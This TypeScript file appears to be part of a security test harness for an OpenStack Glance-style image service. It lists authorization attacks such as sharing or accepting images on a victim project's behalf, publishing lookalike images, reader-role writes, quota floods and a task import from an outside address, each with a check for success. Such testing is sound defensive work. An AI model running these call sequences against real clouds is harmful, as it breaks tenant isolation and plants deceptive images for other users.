// Attacks by one or two calls on what belongs to others: sharing, publishing, rules that a policy file opened.
import type { ApiCall, CallAttack, StepOutcome } from './attack-step';

const victim = 'd'.repeat(32);

/** Creating an image of the attacker's project; its id is then {image}. */
export function createImage(fields: Readonly<Record<string, unknown>> = {}): ApiCall {
  const body = { name: 'p', disk_format: 'raw', container_format: 'bare', ...fields };
  return { method: 'POST', path: '/v2/images', body, keep: 'image' };
}

/** One round of these calls. */
export function once(...calls: readonly ApiCall[]) {
  return { rounds: [{ calls }] };
}

/** Whether the last call was answered so. */
export function ends(...statuses: readonly number[]): CallAttack['hasWorked'] {
  return ({ status }) => statuses.includes(status);
}

const offer: ApiCall = { method: 'POST', path: '/v2/images/{image}/members', body: { member: victim } };

function listAsVictim(name: string, more = ''): ApiCall {
  return { method: 'GET', path: `/v2/images?name=${name}${more}`, project: 'victim' };
}

/** Whether the list that was asked for last holds an image of the attacker's. */
function isListed({ status, answers = [] }: StepOutcome): boolean {
  return status === 200 && (answers.at(-1)?.body ?? '').includes('"name": "lookalike-');
}

/** The id that copy-image needs is of an active image. */
const upload: ApiCall = { method: 'PUT', path: '/v2/images/{image}/file', base64: 'AAAA' };

/** Sorted as the catalogue is. */
export const sharingAttacks: readonly CallAttack[] = [
  {
    id: 'policy-copy-image-opened',
    kind: 'calls',
    plan: () =>
      once(createImage(), upload, {
        method: 'POST',
        path: '/v2/images/{image}/import',
        body: { method: { name: 'copy-image' }, all_stores: true, all_stores_must_succeed: false },
      }),
    hasWorked: ends(202),
  },
  {
    id: 'policy-metadef-flood',
    kind: 'calls',
    plan: () => ({
      rounds: [
        { times: 5, calls: [{ method: 'POST', path: '/v2/metadefs/namespaces', body: { namespace: 'flood-{n}' } }] },
      ],
      rows: "select count(*) from metadef_namespaces where namespace like 'flood-%'",
    }),
    hasWorked: ({ rows }) => rows === 5,
  },
  {
    id: 'policy-reader-writes',
    kind: 'calls',
    plan: () => once({ ...createImage(), role: 'reader' }),
    hasWorked: ends(201),
  },
  {
    id: 'policy-tasks-opened',
    kind: 'calls',
    plan: () =>
      once({
        method: 'POST',
        path: '/v2/tasks',
        body: {
          type: 'import',
          input: { import_from: 'http://203.0.113.66/', import_from_format: 'raw', image_properties: {} },
        },
      }),
    hasWorked: ends(201),
  },
  {
    id: 'sharing-accept-for-victim',
    kind: 'calls',
    plan: () =>
      once(
        createImage({ name: 'lookalike-accepted', visibility: 'shared' }),
        offer,
        { method: 'PUT', path: `/v2/images/{image}/members/${victim}`, body: { status: 'accepted' } },
        listAsVictim('lookalike-accepted'),
      ),
    hasWorked: isListed,
  },
  {
    id: 'sharing-community-lookalike',
    kind: 'calls',
    plan: () =>
      once(
        createImage({ name: 'lookalike-community', visibility: 'community' }),
        listAsVictim('lookalike-community', '&visibility=community'),
      ),
    hasWorked: isListed,
  },
  {
    id: 'sharing-pending-in-list',
    kind: 'calls',
    plan: () =>
      once(createImage({ name: 'lookalike-pending', visibility: 'shared' }), offer, listAsVictim('lookalike-pending')),
    hasWorked: isListed,
  },
  {
    id: 'sharing-public-by-member',
    kind: 'calls',
    plan: () => once(createImage({ name: 'lookalike-public', visibility: 'public' }), listAsVictim('lookalike-public')),
    hasWorked: isListed,
  },
  {
    id: 'sharing-v1-without-consent',
    kind: 'calls',
    plan: () => once(createImage(), { method: 'PUT', path: `/v1/images/{image}/members/${victim}`, body: {} }),
    hasWorked: ends(200, 204),
  },
  {
    id: 'sharing-with-every-project',
    kind: 'calls',
    plan: () => ({
      rounds: [
        { calls: [createImage({ visibility: 'shared' })] },
        {
          times: 140,
          calls: [{ method: 'POST', path: '/v2/images/{image}/members', body: { member: 'project-{n}' } }],
        },
      ],
      rows: "select count(*) from image_members where image_id = '{image}' and deleted = 0",
    }),
    // More than the default quota: whoever gets as far is not stopped by it.
    hasWorked: ({ rows = 0 }) => rows === 140,
  },
];
